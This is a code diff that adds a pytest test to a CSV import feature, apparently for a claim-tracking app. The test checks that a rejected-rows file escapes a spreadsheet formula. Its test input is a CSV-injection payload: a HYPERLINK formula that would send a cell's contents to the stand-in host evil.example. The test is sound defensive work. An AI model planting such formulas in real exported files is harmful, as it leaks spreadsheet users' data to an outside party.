@@ -372,6 +372,17 @@ def test_skipping_invalid_rows_commits_the_valid_ones_and_keeps_the_rejected_one
     assert "“maybe” is not one of" in lines[0]["error"]
 
 
+def test_the_rejected_rows_header_cannot_run_as_a_formula_either(admin_user, tmp_path):
+    """An unknown column is ignored on the way in, but rejected.csv, opened in a spreadsheet, gives the header back."""
+    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
+    text = csv_text(row("Bad one.", status="maybe"), columns=["claim", "speaker", "status", formula])
+    job = run_import(tmp_path, text, admin_user, mode=ImportMode.SKIP_INVALID)
+    assert job.rejected_count == 1
+    with open(importing.rejected_rows_path(job), newline="", encoding="utf-8") as rejected:
+        header = next(csv.reader(rejected))
+    assert header == ["line", "column", "field", "error", "claim", "speaker", "status", "'" + formula]
+
+
 def test_line_breaks_in_an_imported_claim_are_one_space_so_a_repeat_is_found(admin_user, tmp_path):
     # A spreadsheet cell's line break ("\r\n" or "\n") was stored in the claim, and a row
     # repeating the claim on one line was "the same claim with other values", an error.
